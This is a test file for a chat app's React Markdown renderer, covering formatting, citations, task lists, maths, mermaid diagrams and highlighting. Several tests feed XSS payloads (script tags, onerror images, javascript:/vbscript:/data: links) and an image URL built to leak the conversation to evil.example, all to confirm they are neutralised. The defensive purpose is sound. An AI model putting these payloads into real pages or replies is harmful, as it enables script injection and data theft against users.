import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { MessagesProvider } from '@kasa/i18n';
import { CHAT_ENGLISH } from '../i18n/catalogues';
import { Markdown } from './Markdown';
import { loadGrammar } from './highlight';

/** The rendered HTML (in English, as the chat shows it) without emotion's <style> elements. */
const render = (text: string, sources?: string[]) =>
  renderToStaticMarkup(
    createElement(MessagesProvider, {
      locale: 'en',
      catalogue: CHAT_ENGLISH,
      children: createElement(Markdown, { text, sources }),
    }),
  ).replace(/<style[^>]*>.*?<\/style>/gs, '');

/** The citations marked in rendered HTML: what each says and the file it names. */
const citations = (html: string) =>
  Array.from(html.matchAll(/<cite[^>]*data-source="([^"]*)"[^>]*>(?:<svg.*?<\/svg>)?(.*?)<\/cite>/g), (m) => [
    m[2],
    m[1],
  ]);

describe('Markdown', () => {
  it('renders emphasis, lists, tables, inline code and links', () => {
    const html = render(
      '**Akwaaba** and _ɛte sɛn_\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nUse `npm test`, see [docs](https://kasa.example/docs).',
    );
    expect(html).toContain('<strong>Akwaaba</strong>');
    expect(html).toContain('<em>ɛte sɛn</em>');
    expect(html).toMatch(/<ul[^>]*><li>one<\/li><li>two<\/li><\/ul>/);
    expect(html).toContain('<table');
    expect(html).toContain('<code>npm test</code>');
    expect(html).toContain(
      '<a href="https://kasa.example/docs" target="_blank" rel="noopener noreferrer nofollow">docs</a>',
    );
  });

  it('renders a fenced code block with its language and a Copy code button, the code as text', () => {
    const html = render('```ts\nconst a = 1 < 2 && "<b>";\n```');
    expect(html).toContain('<span>ts</span>');
    expect(html).toContain('Copy code');
    expect(html).toContain('<code data-language="ts">const a = 1 &lt; 2 &amp;&amp; &quot;&lt;b&gt;&quot;;</code>');
  });

  it('shows raw HTML as text instead of creating elements', () => {
    const html = render(
      'Hi <img src=x onerror="alert(1)"> <b>bold</b>\n\n<script>alert(2)</script>\n\n<iframe src="https://evil.example"></iframe>\n\n<div onclick="alert(3)">x</div>',
    );
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<iframe/i);
    expect(html).not.toMatch(/<b>/i);
    expect(html).not.toMatch(/<div onclick/i);
    expect(html).not.toMatch(/ on[a-z]+="/i);
    expect(html).toContain('&lt;script&gt;alert(2)&lt;/script&gt;');
    expect(html).toContain('&lt;b&gt;bold&lt;/b&gt;');
  });

  it('keeps the text of javascript:, vbscript: and data: links but drops the link, also behind entities or case', () => {
    const html = render(
      '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](vbscript:msgbox(1)) [d](data:text/html;base64,PHNjcmlwdD4=) [e](java&#9;script:alert(1)) <javascript:alert(1)>',
    );
    expect(html).not.toMatch(/href="\s*(javascript|vbscript|data):/i);
    expect(html).not.toMatch(/javascript:alert\(1\)"/i);
    expect(html).not.toMatch(/<a[\s>]/i);
    // The link texts stay readable, as plain text.
    expect(html).toContain('<p>a b c d e javascript:alert(1)</p>');
  });

  it('turns images into links instead of loading them', () => {
    const html = render('![secret](https://evil.example/leak?q=conversation)');
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain('<a href="https://evil.example/leak?q=conversation"');
    expect(html).toContain('Image: secret');
  });

  it('renders partial markdown (a reply still being written) without throwing', () => {
    for (const text of ['**unclosed', '```py\nprint(1)', '| a | b |\n|--', '[link](https://kasa', '']) {
      expect(() => render(text)).not.toThrow();
    }
    expect(render('```py\nprint(1)')).toContain('print(1)');
  });

  it("marks citations of the conversation's files, page or section, and leaves other bracketed text as it is", () => {
    const text =
      'Gold fell [report.pdf, p. 1] and trotros run [notes, draft.docx, § 12]. ' +
      'Not ours: [budget.pdf, p. 4], [report.pdf], [see here](https://kasa.example) or **[report.pdf, p. 2]**.';
    const html = render(text, ['report.pdf', 'notes, draft.docx']);
    expect(citations(html)).toEqual([
      ['[report.pdf, p. 1]', 'report.pdf'],
      ['[notes, draft.docx, § 12]', 'notes, draft.docx'],
      ['[report.pdf, p. 2]', 'report.pdf'],
    ]);
    // The text reads as written, with the citations in place.
    expect(html.replace(/<svg.*?<\/svg>/g, '').replace(/<[^>]+>/g, '')).toBe(
      text.replace(/\*\*/g, '').replace('[see here](https://kasa.example)', 'see here'),
    );
    // Without files, nothing is marked; nor inside a link or code.
    expect(citations(render(text))).toEqual([]);
    expect(
      citations(render('[[report.pdf, p. 1]](https://kasa.example) `[report.pdf, p. 1]`', ['report.pdf'])),
    ).toEqual([]);
  });

  it('renders task list items as disabled checkboxes labelled by their text, on the text’s line', () => {
    const html = render('- [ ] Book the trotro\n- [x] Buy **kenkey**\n- plain item');
    expect(html).toContain(
      '<li class="task-list-item"><label><input type="checkbox" disabled=""/>Book the trotro</label></li>',
    );
    expect(html).toContain(
      '<li class="task-list-item"><label><input type="checkbox" disabled="" checked=""/>Buy <strong>kenkey</strong></label></li>',
    );
    expect(html).toContain('<li>plain item</li>');
    expect(html).toMatch(/^<div[^>]*><ul class="contains-task-list">/);
  });

  it('labels a loose task item by its first paragraph, nested lists following the label', () => {
    const html = render('1. [x] Pack\n\n2. [ ] Travel\n   - [ ] Tickets');
    expect(html).toContain('<ol start="1" class="contains-task-list">');
    expect(html).toContain('<label><input type="checkbox" disabled="" checked=""/>Pack</label>');
    expect(html).toContain(
      '<label><input type="checkbox" disabled=""/>Travel</label><ul class="contains-task-list"><li class="task-list-item"><label><input type="checkbox" disabled=""/>Tickets</label></li></ul>',
    );
    expect(html).not.toMatch(/<input[^>]*><p>/);
  });

  it('shows maths as written until KaTeX has loaded, untouched by markdown, and leaves dollar amounts as text', () => {
    const html = render(
      'Area $\\pi r_1^2$ and $a_1 * b_2 * c$.\n\n$$\n\\sum_{k=1}^n k\n$$\n\nIt costs $5 and $10; `$x$` is code.',
    );
    expect(html).toContain('<span data-testid="math-source" class="');
    expect(html).toContain('>$\\pi r_1^2$</span>');
    expect(html).toContain('>$a_1 * b_2 * c$</span>');
    expect(html).not.toContain('<em>');
    expect(html).toMatch(
      /<span data-display="true" data-testid="math-source" class="[^"]*">\$\$\n\\sum_\{k=1\}\^n k\n\$\$<\/span>/,
    );
    expect(html).toContain('It costs $5 and $10; <code>$x$</code> is code.');
    expect(html).not.toMatch(/[\uE000\uE001]/);
  });

  it('keeps formulas as written inside code blocks and link targets', () => {
    const html = render('```\n$x$ costs $5\n```\n\n    $indented$ code\n\n[pay](https://kasa.example/?q=$a$)');
    expect(html).toContain('<code>$x$ costs $5</code>');
    expect(html).toContain('$indented$ code');
    expect(html).toContain('href="https://kasa.example/?q=$a$"');
    expect(html).not.toMatch(/[\uE000\uE001]/);
  });

  it('shows a mermaid block as its source with a Copy button until the diagram is drawn', () => {
    const html = render('```mermaid\ngraph TD\n  A-->B\n```');
    expect(html).toMatch(/<figure data-testid="mermaid-diagram" aria-busy="true" data-state="pending"/);
    expect(html).toContain('<span>diagram</span>');
    expect(html).toContain('Copy code');
    expect(html).toContain('<code data-language="mermaid">graph TD\n  A--&gt;B</code>');
  });

  it('highlights code once its grammar has loaded, and shows other languages as plain text', async () => {
    await loadGrammar('typescript');
    const html = render("```ts\nconst a = 1; // one\n```\n\n```klingon\nQapla'\n```");
    expect(html).toContain('<code data-language="ts" class="hljs" data-testid="highlighted-code">');
    expect(html).toContain(
      '<span class="hljs-keyword">const</span> a = <span class="hljs-number">1</span>; <span class="hljs-comment">// one</span>',
    );
    expect(html).toContain('<code data-language="klingon">Qapla&#x27;</code>');
  });
});
